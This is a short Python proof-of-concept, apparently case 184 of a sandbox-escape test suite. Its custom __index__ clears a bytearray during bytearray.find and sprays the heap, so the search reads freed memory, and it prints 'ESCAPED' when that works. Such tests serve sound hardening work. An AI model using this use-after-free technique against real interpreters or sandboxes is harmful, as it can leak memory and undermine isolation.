# escape: 184
# policy-wall: optional; it changes its own process alone
# technique: bytearray.find takes its buffer before the __index__ of start clears it
# family: memory
# goal: memory
# expect: contained
keep = []
def probe():
    ba = bytearray(b'A' * 4000)
    class Start:
        def __index__(self):
            ba.clear()
            keep.extend(bytearray(b'S' * 3990) for _ in range(4))
            return 0
    return ba.find(b'SSSSSSSS', Start())
for _ in range(20):
    at = probe()
    if at >= 0:
        print('ESCAPED: found at', at, 'in freed memory')
        break
